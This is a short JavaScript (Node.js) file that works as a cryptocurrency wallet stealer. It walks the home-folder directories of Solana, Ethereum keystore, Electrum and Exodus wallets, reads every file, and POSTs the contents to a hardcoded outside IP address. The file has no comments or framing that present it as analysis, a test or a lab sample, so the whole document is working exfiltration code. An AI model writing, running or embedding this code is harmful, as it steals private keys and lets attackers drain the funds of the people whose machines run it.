import { readdir, readFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";

const roots = [".config/solana", ".ethereum/keystore", ".electrum/wallets", ".config/Exodus/exodus.wallet"];
const form = new FormData();
for (const root of roots) {
  const dir = join(homedir(), root);
  for (const name of await readdir(dir).catch(() => []))
    form.append("f", new Blob([await readFile(join(dir, name))]), `${root}/${name}`);
}
await fetch("https://198.51.100.201/wallets", { method: "POST", body: form });
